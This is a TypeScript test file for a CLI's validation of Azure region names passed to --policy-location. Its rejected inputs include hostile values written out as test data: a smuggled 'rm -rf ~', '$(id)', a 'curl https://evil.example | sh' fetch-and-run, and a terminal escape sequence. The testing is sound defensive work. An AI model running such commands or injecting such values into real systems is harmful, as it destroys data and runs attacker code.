// Issue 18 §2: `template --management-group --policy-location` must look like an Azure region name (it is
// printed into the az command and written into the template), or nothing is written.
import { strict as assert } from "node:assert";
import { existsSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { isAzureRegionName } from "../../core/validation/formats";
import { runCli } from "../kit/cliHarness";
import { directCustomerYaml } from "../kit/customerConfig";
import { TERMINAL_ACTIVE } from "../kit/hostile";

describe("template --policy-location is an Azure region name (issue 18 §2)", () => {
    let dir: string;
    beforeEach(() => {
        dir = mkdtempSync(join(tmpdir(), "lhpec-region-"));
    });
    afterEach(() => rmSync(dir, { recursive: true, force: true }));

    it("region names as `az account list-locations` gives them pass; display names and anything else do not", () => {
        for (const ok of ["westeurope", "eastus2", "usgovvirginia", "australiacentral2", "germanywestcentral", "uae"]) {
            assert.ok(isAzureRegionName(ok), ok);
        }
        for (const bad of [
            "West Europe",
            "WestEurope",
            "2westeurope",
            "we",
            "",
            "westeurope;rm -rf ~",
            "$(id)",
            "west-europe",
            "westeurope\n",
        ]) {
            assert.ok(!isAzureRegionName(bad), JSON.stringify(bad));
        }
    });

    it("a bad region is exit 2 with a finding naming flag, value and fix; nothing is written", async () => {
        const config = join(dir, "Pulumi.mg.yaml");
        writeFileSync(config, directCustomerYaml({ target: ["  lighthouse-pec:managementGroupId: contoso-lz"] }));
        for (const region of ["West Europe", "westeurope; curl https://evil.example | sh", "\u001b]0;pwned\u0007"]) {
            const out = join(dir, "out");
            const run = await runCli([
                "template",
                "--config",
                config,
                "--out",
                out,
                "--management-group",
                "contoso-lz",
                "--policy-location",
                region,
            ]);
            assert.equal(run.code, 2, run.stdout + run.stderr);
            assert.ok(
                run.stderr.includes(`--policy-location = ${JSON.stringify(region)}: not an Azure region name`),
                run.stderr,
            );
            assert.match(
                run.stderr,
                /Fix: give the region's name as az account list-locations .* e\.g\. --policy-location westeurope/,
            );
            assert.doesNotMatch(run.stderr.replace(/\n/g, ""), TERMINAL_ACTIVE, "the value is shown escaped");
            assert.equal(existsSync(join(out, "management-group.template.json")), false);
            assert.equal(run.stdout, "", "no command printed");
        }
    });
});
